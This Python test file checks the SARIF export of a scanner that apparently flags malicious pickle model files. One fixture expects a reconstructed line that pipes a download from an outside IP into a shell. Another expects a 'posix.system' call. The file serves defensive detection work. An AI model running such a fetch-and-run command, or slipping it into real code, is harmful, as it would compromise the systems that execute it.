"""SARIF that validates, stays within upload limits and loses nothing silently."""

import gzip
import json
import random
import string

import msgspec
import pytest

from casemate.export import sarif
from casemate.export.report import Bundle, write
from casemate.records.evidence import Evidence
from casemate.records.fingerprint import fingerprint
from casemate.records.location import Location
from casemate.records.make import make
from casemate.records.severity import Severity
from casemate.records.target import Target
from tests.export import bundles


def log_of(bundle):
    document = json.loads(write(bundle, "sarif"))
    (run,) = document["runs"]
    return document, run


@pytest.mark.parametrize("name", ["image", "tabular", "hostile"])
def test_it_validates(valid_sarif, name):
    document, run = log_of(getattr(bundles, f"{name}_bundle")())
    valid_sarif(document)
    assert document["version"] == "2.1.0"
    assert len(run["results"]) == len(getattr(bundles, f"{name}_bundle")().findings)


def test_an_empty_run_validates(valid_sarif):
    document, run = log_of(Bundle(run=bundles.run_record()))
    valid_sarif(document)
    assert run["results"] == []
    assert run["invocations"][0]["executionSuccessful"] is True


def test_results_carry_rule_level_place_fingerprint_and_score():
    _, run = log_of(bundles.image_bundle())
    first = run["results"][0]
    assert first["ruleId"] == "pickle-runs-shell"
    assert run["tool"]["driver"]["rules"][first["ruleIndex"]]["id"] == first["ruleId"]
    assert first["level"] == "error"
    where = first["locations"][0]
    assert where["physicalLocation"]["artifactLocation"]["uri"] == "models/ranker.pkl"
    assert where["logicalLocations"][0]["fullyQualifiedName"] == "archive/data.pkl@1042"
    assert first["partialFingerprints"]["primaryLocationLineHash"].startswith("fp-")
    assert float(first["properties"]["security-severity"]) > 9.0
    flow = first["codeFlows"][0]["threadFlows"][0]["locations"]
    assert [step["location"]["message"]["text"] for step in flow] == [
        "from os import system",
        "system('curl -s http://198.51.100.7/x | sh')",
    ]


def test_reconstructed_code_becomes_a_flow_with_the_offset_of_each_opcode():
    lines = "import posix.system  # STACK_GLOBAL at 34\nposix.system('id')  # REDUCE at 53"
    one = finding(0)
    seen = make(Evidence, by="r", how="symbolic", location=one.location, excerpt=lines)
    one = msgspec.structs.replace(one, evidence=(seen,))
    _, run = log_of(Bundle(run=bundles.run_record(), findings=(one,)))
    steps = run["results"][0]["codeFlows"][0]["threadFlows"][0]["locations"]
    assert [step["properties"]["byteOffset"] for step in steps] == [34, 53]


def test_a_waived_finding_is_suppressed_with_its_reason_and_comes_last():
    _, run = log_of(bundles.image_bundle())
    assert [bool(one.get("suppressions")) for one in run["results"]] == [False, False, False, True]
    (suppression,) = run["results"][-1]["suppressions"]
    assert suppression["status"] == "accepted"
    assert suppression["justification"].startswith("Reviewed by Ana")


def test_what_was_not_checked_is_notified_and_unsuccessful():
    _, run = log_of(bundles.image_bundle())
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is False
    assert invocation["exitCode"] == 1
    texts = [one["message"]["text"] for one in invocation["toolExecutionNotifications"]]
    assert any("models/old.pt" in text for text in texts)
    assert any("membership-inference" in text for text in texts)
    assert run["properties"]["gate"]["answer"] == "no"


@pytest.mark.parametrize(
    ("path", "uri"),
    [
        ("models/a b#c?.pkl", "models/a%20b%23c%3F.pkl"),
        ("models\\win.pkl", "models/win.pkl"),
        ("C:\\models\\x.pkl", "file:///C:/models/x.pkl"),
        ("/abs/100%.pkl", "file:///abs/100%25.pkl"),
        ("odd:name.pkl", "odd%3Aname.pkl"),
        ("naïve.pkl", "na%C3%AFve.pkl"),
        ("raw\udcff.pkl", "raw%FF.pkl"),
        ("torch:nets/model.py:build", "nets/model.py"),
        ("torch:pkg.mod:build", "casemate.toml"),
        ("onnx:models/m.onnx", "models/m.onnx"),
        ("https+oip://host/v2/models/m", "casemate.toml"),
    ],
)
def test_locations_are_percent_encoded_uris_of_files_in_the_repository(path, uri):
    assert sarif._artifact(path)["uri"] == uri


def finding(i, severity=Severity.MODERATE, text="", steps=0):
    target = make(Target, kind="artifact", uri=f"models/{i}.pkl")
    where = make(Location, path=target.uri, offset=i)
    chain = tuple(
        make(Evidence, by="r", how="walk", location=where, excerpt=f"{k} {text}"[:2000])
        for k in range(steps)
    )
    found = bundles.scan_part()[1][0]
    return msgspec.structs.replace(
        found,
        target=target,
        severity=severity,
        location=where,
        message=f"finding {i} {text}",
        evidence=chain,
        fingerprint=fingerprint("r", target.uri, None, str(i)),
    )


def test_beyond_the_platforms_count_the_least_severe_are_left_out_and_said(monkeypatch):
    monkeypatch.setattr(sarif, "MAX_RESULTS", 50)
    monkeypatch.setattr(sarif, "SHOWN_RESULTS", 20)
    found = [finding(i, Severity.CRITICAL if i % 7 == 0 else Severity.LOW) for i in range(70)]
    bundle = Bundle(run=bundles.run_record(), findings=tuple(found))
    _, run = log_of(bundle)
    assert len(run["results"]) == 50
    assert [one["level"] for one in run["results"]][:10] == ["error"] * 10
    (notice,) = run["invocations"][0]["toolExecutionNotifications"]
    assert "20 findings are left out" in notice["message"]["text"]


def test_a_log_fits_the_upload_size_whatever_it_holds(monkeypatch):
    monkeypatch.setattr(sarif, "MAX_BYTES", 200_000)
    rng = random.Random(0)
    noise = ["".join(rng.choices(string.ascii_letters, k=3000)) for _ in range(400)]
    found = [finding(i, text=text) for i, text in enumerate(noise)]
    data = write(Bundle(run=bundles.run_record(), findings=tuple(found)), "sarif")
    assert len(gzip.compress(data)) <= 200_000
    notices = json.loads(data)["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert any("left out" in one["message"]["text"] for one in notices)


def test_a_long_call_chain_and_many_tags_stay_within_the_limits(valid_sarif):
    bundle = Bundle(run=bundles.run_record(), findings=(finding(0, steps=1500),))
    document, run = log_of(bundle)
    valid_sarif(document)
    flow = run["results"][0]["codeFlows"][0]["threadFlows"][0]["locations"]
    assert len(flow) <= 1000
    assert all(len(rule["properties"]["tags"]) <= 10 for rule in run["tool"]["driver"]["rules"])


def test_its_form_is_the_approved_one(approved):
    document, run = log_of(bundles.image_bundle())
    for rule in run["tool"]["driver"]["rules"]:  # the catalog's words change on their own
        for key in ("shortDescription", "fullDescription", "help", "helpUri"):
            rule.pop(key, None)
        rule["properties"]["tags"] = rule["properties"]["tags"][:2]
        rule["properties"].pop("security-severity")
        rule["properties"].pop("problem.severity")
        rule.pop("defaultConfiguration")
    run["tool"]["driver"]["version"] = run["tool"]["driver"]["semanticVersion"] = "VERSION"
    approved("image.sarif", json.dumps(document, indent=1) + "\n")
